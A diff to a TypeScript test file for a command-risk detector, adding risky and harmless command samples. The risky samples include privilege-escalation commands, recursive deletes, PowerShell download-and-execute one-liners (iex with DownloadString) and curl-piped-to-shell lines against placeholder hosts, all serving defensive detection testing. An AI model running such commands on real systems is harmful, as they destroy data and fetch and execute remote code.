@@ -54,6 +54,8 @@ const cases: Readonly<Record<string, readonly [risky: string, harmless: string, 
       `runas /user:Administrator cmd
     gsudo.exe x
     powershell -Command Start-Process x -Verb RunAs
+    powershell -Command start powershell -Verb RunAs
+    powershell -Command $p = @{}; & start x -Verb 'RunAs'
     cmd.exe /c cd x & runas /user:a b
     wsl -d Ubuntu sudo x`,
       `cmd /c npx -y runas-docs
@@ -82,7 +84,8 @@ const cases: Readonly<Record<string, readonly [risky: string, harmless: string, 
       `cmd /c rd /s /q x
     cmd /C cd x && del /S *
     powershell -NoProfile -Command Remove-Item x -Recurse -Force
-    pwsh -c ls; rm -r x`,
+    pwsh -c ls; rm -r x
+    pwsh -c echo 'a"b'; rm -r x`,
       `cmd /c del x.txt
     powershell -Command Get-ChildItem -Recurse
     powershell -File rm.ps1 -r`,
@@ -99,8 +102,13 @@ const cases: Readonly<Record<string, readonly [risky: string, harmless: string, 
     powershell -c iex (iwr https://x.example/i.ps1)
     powershell iex (iwr https://x.example/i.ps1)
     pwsh -Command IEX ((New-Object Net.WebClient).DownloadString('https://x.example'))
+    powershell -c iex (New-Object Net.WebClient).DownloadString('http://x/y')
+    powershell -c $wc.DownloadString('http://x') | iex
+    powershell -c $x = iwr http://x; iex $x
+    cmd /c powershell -c "iex ([Net.WebClient]::new().DownloadString('http://x'))"
     sh -c curl x ${'| tee a '.repeat(1_000)}| sh`,
-      `sh -c curl https://x.example || sh fallback.sh
+      `powershell -File C:\\iex\\curl.ps1
+    sh -c curl https://x.example || sh fallback.sh
     sh -c curl x | jq .
     sh -c curl x; sh y
     curl https://x.example | sh
@@ -109,7 +117,9 @@ const cases: Readonly<Record<string, readonly [risky: string, harmless: string, 
     ],
     networkFetch: [
       `sh -c curl -o s x && chmod +x s && ./s
-    powershell -c Invoke-WebRequest x -OutFile y`,
+    powershell -c Invoke-WebRequest x -OutFile y
+    powershell -c $r = irm http://x
+    powershell -c [Net.WebClient]::new().DownloadString('http://x')`,
       `curl https://x.example
     sh -c node curl.js
     sh -c curl x | sh`,
@@ -287,6 +297,12 @@ describe('risks: texts', () => {
     const run = "iex (iwr 'https://x.example' -OutFile C:\\w\\a.ps1)";
     assert.deepEqual(stdioRisks({ ...windows, command: 'powershell', args: ['-c', run] }), [
       { kind: 'downloadToShell', text: run },
+    ]);
+  });
+
+  it('says of a script of PowerShell once what it breaks', () => {
+    assert.deepEqual(stdioRisks({ ...windows, command: 'pwsh', args: ['-c', 'ls; rm -r x'] }), [
+      { kind: 'recursiveDelete', text: 'rm -r x' },
     ]);
   });
 
